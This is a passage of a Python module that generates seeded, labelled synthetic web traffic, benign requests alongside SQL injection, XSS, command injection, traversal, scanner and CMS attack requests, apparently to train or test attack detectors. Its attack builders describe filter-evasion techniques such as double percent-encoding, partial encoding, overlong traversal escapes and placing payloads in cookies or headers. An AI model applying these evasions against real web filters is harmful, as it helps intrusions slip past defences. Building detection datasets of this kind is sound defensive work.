"""Seeded generators of labelled raw HTTP requests: benign traffic and attacks.

Every request is built from a seed alone, so the same ``(n, seed, mix)`` gives
the same list on every machine. Benign traffic imitates browsers, JSON APIs
and well-behaved bots, with the awkward but harmless text real users send
(apostrophes, quotes, SQL-ish words, code in JSON bodies). Attacks are
composed from techniques rather than copied from a list: a payload core, then
evasions (case, comments, whitespace, encodings), then a place in the request
(query, path, form or JSON body, cookie, User-Agent, Referer).

    >>> reqs = generate(4, seed=7, mix={"benign": 1, "sqli": 1})
    >>> sorted({r.label for r in reqs})
    ['benign', 'sqli']
    >>> generate(4, seed=7, mix={"benign": 1, "sqli": 1}) == reqs
    True
"""

from __future__ import annotations

import base64
import json
import random
import re
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, quote_plus

__all__ = [
    "ATTACK_LABELS",
    "BENIGN_LABELS",
    "DEFAULT_MIX",
    "LABELS",
    "RawRequest",
    "generate",
]

BENIGN_LABELS = ("benign", "api", "bot")
ATTACK_LABELS = ("sqli", "xss", "cmdi", "traversal", "scanner", "cms")
LABELS = BENIGN_LABELS + ATTACK_LABELS

#: Proportions used when ``generate`` gets no ``mix``.
DEFAULT_MIX: dict[str, float] = {
    "benign": 0.55,
    "api": 0.15,
    "bot": 0.05,
    "sqli": 0.05,
    "xss": 0.05,
    "cmdi": 0.04,
    "traversal": 0.04,
    "scanner": 0.04,
    "cms": 0.03,
}


@dataclass
class RawRequest:
    """One request as a client sent it, with the label of what it really is.

    ``url`` is absolute (``https://host/path?query``) and keeps the client's
    encoding; ``headers`` maps header names (as sent) to one value each;
    ``technique`` says how an attack was built (empty for benign traffic).
    """

    method: str
    url: str
    headers: dict[str, str]
    body: str
    client_ip: str
    country: str
    asn: int
    label: str
    technique: str = ""


def generate(n: int, seed: int = 0, mix: dict[str, float] | None = None) -> list[RawRequest]:
    """``n`` labelled requests in a seeded order, proportioned by ``mix`` (label -> weight).

    Counts follow the weights exactly (largest remainder), then the labels are
    shuffled. Unknown labels or negative weights raise ``ValueError``.
    """
    if n < 0:
        raise ValueError("n must be >= 0")
    weights = dict(DEFAULT_MIX if mix is None else mix)
    unknown = sorted(set(weights) - set(LABELS))
    if unknown:
        raise ValueError(f"unknown labels {unknown}; use some of {', '.join(LABELS)}")
    if any(w < 0 for w in weights.values()) or sum(weights.values()) <= 0:
        raise ValueError("weights must be >= 0 and not all zero")
    rng = random.Random(f"workbench.traffic:{seed}")
    labels = _allocate(n, weights)
    rng.shuffle(labels)
    return [_BUILDERS[label](rng) for label in labels]


def _allocate(n: int, weights: dict[str, float]) -> list[str]:
    total = sum(weights.values())
    names = [k for k in LABELS if k in weights]
    exact = {k: n * weights[k] / total for k in names}
    counts = {k: int(exact[k]) for k in names}
    rest = sorted(names, key=lambda k: (-(exact[k] - counts[k]), LABELS.index(k)))
    for k in rest[: n - sum(counts.values())]:
        counts[k] += 1
    return [k for k in names for _ in range(counts[k])]


# -- clients ------------------------------------------------------------------


def _client(rng: random.Random, kind: str) -> tuple[str, str, int]:
    prefix, country, asn = rng.choice(NETWORKS[kind])
    parts = prefix.split(".")
    while len(parts) < 4:
        parts.append(str(rng.randint(1, 254)))
    return ".".join(parts), country, asn


def _browser_headers(rng: random.Random, host: str, referer: bool = True) -> dict[str, str]:
    ua = rng.choice(BROWSER_UAS)
    h = {
        "Host": host,
        "User-Agent": ua,
        "Accept": rng.choice(ACCEPTS),
        "Accept-Language": rng.choice(LANGUAGES),
        "Accept-Encoding": "gzip, deflate, br",
    }
    if "Chrome/" in ua and "Edg/" not in ua and rng.random() < 0.8:
        v = ua.split("Chrome/")[1].split(".")[0]
        h["sec-ch-ua"] = f'"Chromium";v="{v}", "Google Chrome";v="{v}", "Not-A.Brand";v="99"'
        h["sec-ch-ua-mobile"] = "?1" if "Mobile" in ua else "?0"
        h["sec-ch-ua-platform"] = '"Android"' if "Android" in ua else '"Windows"'
        h["Sec-Fetch-Site"] = rng.choice(["same-origin", "none", "cross-site"])
        h["Sec-Fetch-Mode"] = "navigate"
    if referer and rng.random() < 0.6:
        h["Referer"] = _referer(rng, host)
    if rng.random() < 0.75:
        h["Cookie"] = _cookies(rng)
    return h


def _referer(rng: random.Random, host: str) -> str:
    r = rng.random()
    if r < 0.35:
        return f"https://{host}{_page_path(rng)}"
    if r < 0.7:
        q = quote_plus(rng.choice(SEARCHES))
        return f"https://www.google.com/search?q={q}&sourceid=chrome&ie=UTF-8"
    return rng.choice(REFERERS)


def _cookies(rng: random.Random) -> str:
    parts = [f"session={_hex(rng, 32)}"]
    if rng.random() < 0.7:
        parts.append(f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(1600000000, 1760000000)}")
    if rng.random() < 0.4:
        parts.append(
            f"_gid=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(1600000000, 1760000000)}"
        )
    parts.extend(c for c in EXTRA_COOKIES if rng.random() < 0.15)
    if rng.random() < 0.2:
        cart = json.dumps({"items": rng.randint(1, 5), "note": rng.choice(SEARCHES)})
        parts.append("cart=" + quote(cart, safe=""))
    return "; ".join(parts)


def _hex(rng: random.Random, k: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(k))


def _token(rng: random.Random, k: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(alphabet) for _ in range(k))


def _page_path(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.2:
        return rng.choice(PAGES)
    if r < 0.4:
        return f"/products/{rng.choice(SLUGS)}-{rng.randint(100, 99999)}"
    if r < 0.55:
        return f"/blog/{rng.randint(2015, 2026)}/{rng.randint(1, 12):02d}/{rng.choice(SLUGS)}"
    if r < 0.7:
        return f"/category/{rng.choice(CATEGORIES)}"
    if r < 0.8:
        return f"/account/orders/{rng.randint(100000, 999999)}"
    return f"/{rng.choice(CATEGORIES)}/{rng.choice(SLUGS)}/"


def _url(host: str, path: str, query: str = "") -> str:
    return f"https://{host}{path}" + (f"?{query}" if query else "")


def _request(rng: random.Random, kind: str, label: str, **kw: Any) -> RawRequest:
    ip, country, asn = _client(rng, kind)
    return RawRequest(client_ip=ip, country=country, asn=asn, label=label, **kw)


# -- benign -------------------------------------------------------------------


def _benign(rng: random.Random) -> RawRequest:
    host = rng.choice(HOSTS)
    h = _browser_headers(rng, host)
    r = rng.random()
    method, body, query = "GET", "", ""
    if r < 0.3:
        path = rng.choice(ASSETS).format(h=_hex(rng, 8), n=rng.randint(1, 400))
        h["Accept"] = "*/*"
    elif r < 0.5:
        path = _page_path(rng)
        query = _tracking(rng) if rng.random() < 0.4 else ""
    elif r < 0.7:
        path = rng.choice(["/search", "/shop/search", "/help/search", "/blog/search"])
        query = _search_query(rng)
    elif r < 0.8:
        path = f"/category/{rng.choice(CATEGORIES)}"
        query = _filters(rng)
    elif r < 0.9:
        method, path = "POST", rng.choice(FORM_PATHS)
        body = _form_body(rng)
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Origin"] = f"https://{host}"
    else:
        method, path = rng.choice(WP_BENIGN)
        if method == "POST":
            body = f"action=heartbeat&_nonce={_hex(rng, 10)}&interval=60&has_focus=true"
            h["Content-Type"] = "application/x-www-form-urlencoded; charset=UTF-8"
    return _request(
        rng, "home", "benign", method=method, url=_url(host, path, query), headers=h, body=body
    )


def _tracking(rng: random.Random) -> str:
    parts = []
    if rng.random() < 0.5:
        parts += [
            f"utm_source={rng.choice(UTM_SOURCES)}",
            "utm_medium=cpc",
            f"utm_campaign={quote_plus(rng.choice(CAMPAIGNS))}",
        ]
    if rng.random() < 0.3:
        parts.append(f"gclid={_token(rng, 40)}")
    if rng.random() < 0.2:
        parts.append(f"fbclid=IwAR{_token(rng, 50)}")
    if rng.random() < 0.2:
        nxt = rng.choice(
            ["/cart", "/account/settings?tab=billing", "https://shop.example.com/checkout"]
        )
        parts.append(f"{rng.choice(['next', 'return_to', 'redirect'])}={quote(nxt, safe='')}")
    return "&".join(parts) or f"ref={_token(rng, 8)}"


def _search_query(rng: random.Random) -> str:
    text = rng.choice(SEARCHES)
    enc = quote_plus(text) if rng.random() < 0.7 else quote(text, safe="'()!*")
    q = f"q={enc}"
    if rng.random() < 0.5:
        q += f"&page={rng.randint(1, 9)}"
    if rng.random() < 0.3:
        q += "&sort=" + rng.choice(["relevance", "price_asc", "price_desc", "newest"])
    return q


def _filters(rng: random.Random) -> str:
    parts = [f"page={rng.randint(1, 30)}", f"per_page={rng.choice([12, 24, 48])}"]
    if rng.random() < 0.5:
        parts.append(f"price_min={rng.randint(0, 50)}&price_max={rng.randint(60, 500)}")
    if rng.random() < 0.4:
        parts.append("color=" + quote(rng.choice(["#ff0000", "navy blue", "black/white"]), safe=""))
    if rng.random() < 0.3:
        parts.append("filter=" + quote(rng.choice(FILTERS), safe=""))
    if rng.random() < 0.3:
        parts.append("size[]=" + rng.choice(["S", "M", "L", "10", "10.5"]))
    return "&".join(parts)


def _form_body(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.3:
        user = rng.choice(NAMES).lower().replace(" ", ".").replace("'", "")
        return f"username={quote_plus(user + '@example.org')}&password={quote_plus(_password(rng))}&remember=1"
    if kind < 0.7:
        return "&".join(
            [
                f"name={quote_plus(rng.choice(NAMES))}",
                f"email={quote_plus('someone@example.org')}",
                f"subject={quote_plus(rng.choice(SEARCHES))}",
                f"message={quote_plus(rng.choice(MESSAGES))}",
            ]
        )
    return "&".join(
        [
            f"address1={quote_plus(rng.choice(ADDRESSES))}",
            f"city={quote_plus(rng.choice(['Dublin', 'Coeur d' + chr(39) + 'Alene', 'New York']))}",
            f"phone={quote_plus('+1 (555) 010-0' + str(rng.randint(100, 199)))}",
            f"notes={quote_plus(rng.choice(MESSAGES))}",
        ]
    )


def _password(rng: random.Random) -> str:
    alphabet = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$%^&*-_=+.,?"
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(10, 18)))


def _api(rng: random.Random) -> RawRequest:
    host = rng.choice(["api.example.com", "www.example.com", "hooks.example.com"])
    h = {
        "Host": host,
        "User-Agent": rng.choice(API_UAS),
        "Accept": "application/json",
        "Authorization": "Bearer " + ".".join(_token(rng, k) for k in (36, 120, 43)),
    }
    r = rng.random()
    method, body, query = "GET", "", ""
    if r < 0.3:
        path = rng.choice(API_PATHS).format(n=rng.randint(1, 99999))
        query = f"limit={rng.choice([10, 50, 100])}&cursor={_token(rng, 24)}"
        if rng.random() < 0.4:
            query += "&fields=" + quote("id,name,email,created_at", safe=",")
        if rng.random() < 0.3:
            query += "&filter=" + quote(rng.choice(FILTERS), safe="")
    elif r < 0.5:
        method, path = "POST", "/graphql"
        body = json.dumps(rng.choice(GRAPHQL))
    elif r < 0.65:
        method, path = "POST", rng.choice(["/webhooks/stripe", "/webhooks/github", "/hooks/ci"])
        body = json.dumps(WEBHOOKS[path.rsplit("/", 1)[1]](rng))
        h.pop("Authorization")
        h["X-Signature"] = "sha256=" + _hex(rng, 64)
    elif r < 0.85:
        method, path = "POST", rng.choice(["/api/v1/snippets", "/api/v1/comments", "/api/v2/notes"])
        body = json.dumps(rng.choice(SNIPPETS), ensure_ascii=rng.random() < 0.5)
    else:
        method = rng.choice(["PUT", "PATCH", "DELETE"])
        path = f"/api/v1/orders/{rng.randint(1000, 99999)}"
        if method != "DELETE":
            body = json.dumps(
                {"status": rng.choice(["paid", "shipped"]), "note": rng.choice(MESSAGES)}
            )
    if body:
        h["Content-Type"] = "application/json"
    return _request(
        rng,
        rng.choice(["home", "cloud"]),
        "api",
        method=method,
        url=_url(host, path, query),
        headers=h,
        body=body,
    )


def _bot(rng: random.Random) -> RawRequest:
    ua, kind, paths = rng.choice(BOTS)
    host = rng.choice(HOSTS)
    h = {"Host": host, "User-Agent": ua, "Accept": "*/*", "Accept-Encoding": "gzip"}
    path = rng.choice(paths) if paths else _page_path(rng)
    return _request(
        rng,
        kind,
        "bot",
        method=rng.choice(["GET", "GET", "HEAD"]) if kind == "monitor" else "GET",
        url=_url(host, path),
        headers=h,
        body="",
    )


# -- attacks ------------------------------------------------------------------


def _attack(rng: random.Random, label: str, payload: str, technique: str) -> RawRequest:
    """Put ``payload`` somewhere in an otherwise ordinary request."""
    host = rng.choice(HOSTS)
    h = _browser_headers(rng, host, referer=False)
    if rng.random() < 0.35:
        h = {"Host": host, "User-Agent": rng.choice(API_UAS + BROWSER_UAS), "Accept": "*/*"}
    place = rng.choices(PLACES, weights=PLACE_WEIGHTS)[0]
    method, body, path, query = "GET", "", _page_path(rng), ""
    name = rng.choice(PARAMS[label])
    if place == "query":
        extra = "&".join(f"{k}={v}" for k, v in rng.sample(PLAIN_ARGS, rng.randint(0, 2)))
        pair = f"{name}={_encode(rng, payload)}"
        query = "&".join(x for x in rng.sample([pair, extra], 2) if x)
    elif place == "path":
        path = rng.choice(["/products/", "/download/", "/files/", "/view/", "/api/v1/items/"])
        path += _encode(rng, payload, path=True)
    elif place == "form":
        method = "POST"
        body = f"{name}={_encode(rng, payload, form=True)}&submit=Send"
        h["Content-Type"] = "application/x-www-form-urlencoded"
    elif place == "json":
        method = rng.choice(["POST", "PUT"])
        body = _json_escape(
            rng, {name: payload, "ref" if name == "id" else "id": rng.randint(1, 9999)}
        )
        h["Content-Type"] = "application/json"
    elif place == "cookie":
        h["Cookie"] = f"session={_hex(rng, 32)}; {name}={_encode(rng, payload, cookie=True)}"
    elif place == "user-agent":
        h["User-Agent"] = rng.choice(["", "Mozilla/5.0 "]) + payload
    else:
        h["Referer"] = f"https://{host}/search?q={_encode(rng, payload)}"
    return _request(
        rng,
        "attack",
        label,
        method=method,
        url=_url(host, path, query),
        headers=h,
        body=body,
        technique=f"{technique}@{place}",
    )


_UNRESERVED = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"


def _encode(
    rng: random.Random, s: str, path: bool = False, form: bool = False, cookie: bool = False
) -> str:
    """Percent-encode ``s`` the way one client or evasion might."""
    r = rng.random()
    must = " #&%+?\r\n\t\x0b\x0c\x00;=" + ("/" if path and rng.random() < 0.5 else "")
    if cookie:
        must += ',"'
    if r < 0.3:  # minimal: only what would break the request
        return "".join(_pct(rng, c) if c in must or ord(c) > 126 or ord(c) < 32 else c for c in s)
    if r < 0.55:
        return (
            quote_plus(s, safe="/" if path else "")
            if form or rng.random() < 0.5
            else quote(s, safe="")
        )
    if r < 0.7:  # every byte
        return "".join(_pct(rng, c) for c in s)
    if r < 0.85:  # double encoding
        once = quote(s, safe="")
        return once.replace("%", "%25")
    # random subset
    return "".join(
        _pct(rng, c)
        if (c in must or c not in _UNRESERVED and rng.random() < 0.6 or ord(c) > 126)
        else c
        for c in s
    )


def _pct(rng: random.Random, c: str) -> str:
    out = "".join(f"%{b:02X}" for b in c.encode("utf-8"))
    return out.lower() if rng.random() < 0.3 else out


def _json_escape(rng: random.Random, obj: dict[str, object]) -> str:
    text = json.dumps(obj)
    if rng.random() < 0.25:  # the escaping Go and .NET serializers apply
        for a, b in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"), ("'", "\\u0027")):
            text = text.replace(a, b)
    return text


def _sqli(rng: random.Random) -> RawRequest:
    payload, technique = sqli_payload(rng)
    return _attack(rng, "sqli", payload, technique)


def _xss(rng: random.Random) -> RawRequest:
    payload, technique = xss_payload(rng)
    return _attack(rng, "xss", payload, technique)


def _cmdi(rng: random.Random) -> RawRequest:
    payload, technique = cmdi_payload(rng)
    return _attack(rng, "cmdi", payload, technique)


def _traversal(rng: random.Random) -> RawRequest:
    payload, technique = traversal_payload(rng)
    if rng.random() < 0.7:
        # Traversal lives mostly in file-ish parameters and paths, often pre-encoded.
        host = rng.choice(HOSTS)
        h = _browser_headers(rng, host, referer=False)
        if rng.random() < 0.5:
            path = rng.choice(FILE_PATHS)
            query = f"{rng.choice(PARAMS['traversal'])}={_encode_keep(rng, payload)}"
        else:
            path = rng.choice(["/static/", "/download/", "/images/", "/cgi-bin/", "/assets/"])
            path += _encode_keep(rng, payload, path=True)
            query = ""
        return _request(
            rng,
            "attack",
            "traversal",
            method="GET",
            url=_url(host, path, query),
            headers=h,
            body="",
            technique=technique + "@url",
        )
    return _attack(rng, "traversal", payload, technique)


def _encode_keep(rng: random.Random, s: str, path: bool = False) -> str:
    """Encode a payload whose own escapes (``%2e``, ``%c0%af``) must survive as typed."""
    if "%" in s and rng.random() < 0.8:
        return s.replace(" ", "%20").replace("#", "%23").replace("?", "%3F" if path else "?")
    return _encode(rng, s, path=path)


def _scanner(rng: random.Random) -> RawRequest:
    host = rng.choice(HOSTS)
    r = rng.random()
    h = {"Host": host, "User-Agent": rng.choice(SCANNER_UAS), "Accept": "*/*"}
    path, query, technique = rng.choice(SCANNER_PATHS), "", "scanner/ua+probe"
    if r < 0.25:  # a probe with an ordinary-looking client
        h["User-Agent"] = rng.choice(BROWSER_UAS + API_UAS)
        technique = "scanner/probe"
    elif r < 0.35:
        h.update(rng.choice(SCANNER_HEADERS))
        path, technique = _page_path(rng), "scanner/header"
    elif r < 0.45:
        h["User-Agent"] = rng.choice(GOOGLEBOT_UAS)
        path, technique = _page_path(rng), "scanner/fake-googlebot"
    elif r < 0.65:
        path, technique = _page_path(rng), "scanner/ua"
        query = f"id={rng.randint(1, 99)}"
    return _request(
        rng,
        "attack",
        "scanner",
        method=rng.choice(["GET", "GET", "HEAD"]),
        url=_url(host, path, query),
        headers=h,
        body="",
        technique=technique,
    )


def _cms(rng: random.Random) -> RawRequest:
    host = rng.choice(HOSTS)
    h = _browser_headers(rng, host, referer=False)
    spec = cms_exploit(rng)
    h.update(spec.get("headers", {}))
    if spec.get("body"):
        h.setdefault("Content-Type", "application/x-www-form-urlencoded")
    return _request(
        rng,
        "attack",
        "cms",
        method=spec["method"],
        url=_url(host, spec["path"], spec.get("query", "")),
        headers=h,
        body=spec.get("body", ""),
        technique=spec["technique"],
    )


_BUILDERS = {
    "benign": _benign,
    "api": _api,
    "bot": _bot,
    "sqli": _sqli,
    "xss": _xss,
    "cmdi": _cmdi,
    "traversal": _traversal,
    "scanner": _scanner,
    "cms": _cms,
}


# == data: clients and benign content ===========================================


def _lines(text: str) -> list[str]:
    """The non-empty lines of a block of text (one list item per line)."""
    return [line for line in text.split("\n") if line]


HOSTS = ("www.example.com", "shop.example.com", "blog.example.com", "example.com")

#: Network prefixes by kind of client: (prefix, country, ASN).
NETWORKS: dict[str, list[tuple[str, str, int]]] = {
    "home": [
        ("73.158", "US", 7922),
        ("98.207", "US", 7922),
        ("71.187", "US", 701),
        ("79.192", "DE", 3320),
        ("91.64", "DE", 3320),
        ("86.140", "GB", 2856),
        ("82.64", "FR", 12322),
        ("49.36", "IN", 9829),
        ("121.200", "AU", 7545),
        ("177.33", "BR", 28573),
        ("95.91", "NL", 1136),
        ("126.12", "JP", 17676),
    ],
    "cloud": [
        ("3.120", "US", 16509),
        ("34.102", "US", 396982),
        ("20.42", "US", 8075),
        ("104.248", "US", 14061),
        ("5.161", "DE", 24940),
    ],
    "attack": [
        ("167.99", "US", 14061),
        ("159.89", "DE", 14061),
        ("45.155", "NL", 9009),
        ("185.220", "DE", 205100),
        ("51.158", "FR", 16276),
        ("103.151", "SG", 45102),
        ("222.186", "CN", 4134),
        ("91.240", "RU", 57523),
        ("73.12", "US", 7922),
        ("188.166", "NL", 14061),
        ("138.197", "CA", 14061),
        ("194.26", "GB", 9009),
    ],
    "google": [("66.249.66", "US", 15169), ("66.249.72", "US", 15169)],
    "bing": [("157.55.39", "US", 8075), ("40.77.167", "US", 8075)],
    "apple": [("17.241.75", "US", 714)],
    "yandex": [("5.255.231", "RU", 13238)],
    "facebook": [("69.171.249", "US", 32934)],
    "monitor": [
        ("216.144.248", "US", 46475),
        ("3.87.16", "US", 16509),
        ("178.255.152", "SE", 42473),
    ],
}

BROWSER_UAS = _lines(
    r"""
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15
Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0
Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36
Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1
Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36
Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36
Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/125.0.6422.80 Mobile/15E148 Safari/604.1
Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0
Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko
"""
)
API_UAS = _lines(
    r"""
okhttp/4.12.0
axios/1.6.8
python-requests/2.32.3
Go-http-client/2.0
PostmanRuntime/7.39.0
curl/8.7.1
node-fetch/1.0 (+https://github.com/bitinn/node-fetch)
Dart/3.3 (dart:io)
MyShopApp/5.12.1 (iPhone; iOS 17.5; Scale/3.00)
Java/17.0.11
Stripe/1.0 (+https://stripe.com/docs/webhooks)
GitHub-Hookshot/8a3c2f1
aiohttp/3.9.5
"""
)
GOOGLEBOT_UAS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.175 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
#: Benign bots: (User-Agent, network kind, paths or None for site pages).
BOTS: list[tuple[str, str, list[str] | None]] = [
    (GOOGLEBOT_UAS[0], "google", None),
    (GOOGLEBOT_UAS[1], "google", ["/", "/robots.txt", "/sitemap.xml", "/sitemap-products-1.xml"]),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "bing", None),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        "apple",
        None,
    ),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "yandex", None),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "facebook", None),
    (
        "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "monitor",
        ["/", "/healthz", "/status"],
    ),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor", ["/", "/health"]),
    ("Datadog/Synthetics", "monitor", ["/", "/api/health", "/login"]),
    ("kube-probe/1.29", "cloud", ["/healthz", "/readyz"]),
    (
        "Amazon-Route53-Health-Check-Service (ref 2b1c; report http://amzn.to/1vsZADi)",
        "cloud",
        ["/health"],
    ),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "cloud", None),
    (
        "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
        "cloud",
        None,
    ),
    (
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
        "cloud",
        ["/feed/", "/blog/feed.xml", "/rss"],
    ),
]
ACCEPTS = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "*/*",
    "application/json, text/plain, */*",
]
LANGUAGES = _lines(
    r"""
en-US,en;q=0.9
de-DE,de;q=0.9,en;q=0.8
fr-FR,fr;q=0.9
en-GB,en;q=0.7
pt-BR,pt;q=0.9,en-US;q=0.8
ja,en-US;q=0.9
"""
)
REFERERS = _lines(
    r"""
https://www.bing.com/
https://duckduckgo.com/
https://t.co/abc123XYZ
https://www.facebook.com/
https://news.ycombinator.com/item?id=40123456
https://www.reddit.com/r/buildapc/comments/1c2d3e/whats_the_best_psu/
android-app://com.google.android.gm/
"""
)
EXTRA_COOKIES = _lines(
    r"""
theme=dark
lang=en-US
currency=EUR
cookie_consent=accepted
OptanonConsent=isGpcEnabled=0&datestamp=Mon+May+06+2024+10%3A00%3A00+GMT%2B0200&version=202401.1.0&groups=C0001%3A1%2CC0002%3A0
recently_viewed=123%2C456%2C789
ab_test=variant-b
_fbp=fb.1.1712345678901.123456789
prefs=%7B%22layout%22%3A%22grid%22%2C%22sort%22%3A%22price%22%7D
__utmz=173272373.1712345678.2.2.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)
token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
__cf_bm=Xk2aP9v3Lq8RstUv0WxYz1-1712345678-1.0.1.1-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789
"""
)
PAGES = _lines(
    r"""
/
/about
/contact
/pricing
/faq
/shop
/cart
/checkout
/login
/signup
/account
/help/returns
/terms
/privacy
/careers
/blog
"""
)
SLUGS = _lines(
    r"""
running-shoes
wireless-headphones
o-briens-irish-stew
select-a-plan
drop-shipping-guide
union-square-hotel
5-tips-for-better-sleep
c-sharp-vs-java
rock-n-roll-history
the-script-concert-tickets
how-to-order-by-phone
tables-and-chairs
echo-dot-review
cat-tree-deluxe
alert-bracelet
update-firmware
"""
)
CATEGORIES = _lines(
    r"""
shoes
electronics
home-garden
books
toys
sale
new-arrivals
men
women
"""
)
ASSETS = _lines(
    r"""
/static/js/app.{h}.js
/static/js/vendor.{h}.chunk.js
/assets/css/main.{h}.css
/images/products/{n}.webp
/images/banners/summer-{n}.jpg
/fonts/inter-var.woff2
/favicon.ico
/apple-touch-icon.png
/manifest.json
/robots.txt
/sitemap.xml
/wp-content/uploads/2024/03/photo-{n}.jpg
/wp-includes/js/jquery/jquery.min.js?ver=3.7.1
/static/media/logo.{h}.svg
/_next/static/chunks/pages/index-{h}.js
"""
)
FORM_PATHS = _lines(
    r"""
/login
/contact
/newsletter/subscribe
/checkout/address
/account/profile
/comments/post
/support/ticket
"""
)
WP_BENIGN = [
    ("POST", "/wp-admin/admin-ajax.php"),
    ("GET", "/wp-json/wp/v2/posts?per_page=10&page=2"),
    ("GET", "/wp-login.php"),
    ("GET", "/feed/"),
    ("GET", "/?p=123"),
    ("GET", "/wp-admin/"),
    ("GET", "/wp-json/wc/store/v1/cart"),
    ("GET", "/xmlrpc.php?rsd"),
]
UTM_SOURCES = _lines(
    r"""
google
newsletter
facebook
twitter
bing
partner_site
"""
)
CAMPAIGNS = [
    "spring sale 2024",
    "black friday",
    "select & save",
    "drop-off week",
    "union day promo",
]
FILTERS = _lines(
    r"""
brand:nike,size:10
price>=10 AND price<=50
status=active;type=premium
category in (shoes, boots)
rating:4+
name:O'Neil
tag=c++|rust
created_at>2024-01-01
sort=-price,name
"""
)
NAMES = _lines(
    r"""
Mary O'Brien
Sean O'Connor
D'Angelo Russell
Zoë Saldaña
Jean-Luc Picard
Renée Zellweger
Bobby Tables
Anne-Marie Smith
José Álvarez
Chloë O'Hara
"""
)
ADDRESSES = _lines(
    r"""
123 O'Connell St, Apt #4
77 Union Square W
1 Select Ave, Suite 200
Flat 3, 10 Drop Lane
4/12 King's Road
500 Echo Park Blvd "Rear"
"""
)
SEARCHES = _lines(
    r"""
O'Brien
select a plan
drop shipping
I <3 NY t-shirt
rock & roll
tom's diner
5' 11" height to cm
union station chicago
delete my account
update billing address
sleeping bags -20
c# vs java
what does 1=1 mean
script writing tips
javascript tutorial
"exact phrase" search
men's shoes size 10 1/2
order by phone
where is my order?
table & chairs set
50% off sale
a < b > c
O'Reilly books
don't starve together
echo dot 5th gen
cat food (grain-free)
sql select statement tutorial
how to use alert() in javascript
best or worst
yes or no questions
and/or meaning
1+1
what is <html> tag
café crème
ÜBER straße
東京 ホテル
😀 emoji keyboard
print('hello world') python
ls vs ll
wget vs curl
kill bill dvd
type c cable
dir en grey
ping pong table
cmd + shift + 4
bash birthday party ideas
etc etc meaning
../ meaning
robots.txt example
select your size
drop table cloth
insert coin
sleep(5) meaning
benchmark results 2024
union jack flag
or 1 more
price: low to high
what's new?
12" pizza pan
it's 5 o'clock
#hashtag ideas
<3 emoji
x=y+z solve
$100 gift card
~/Downloads folder
{curly braces}
@username mention
url with ?query=1&x=2
rock 'n' roll
# of items in cart
"best" or 'worst' reviews
2x4 lumber 8' long
"""
)
MESSAGES = [
    "Hi, I ordered the wrong size - can I exchange it? Thanks!",
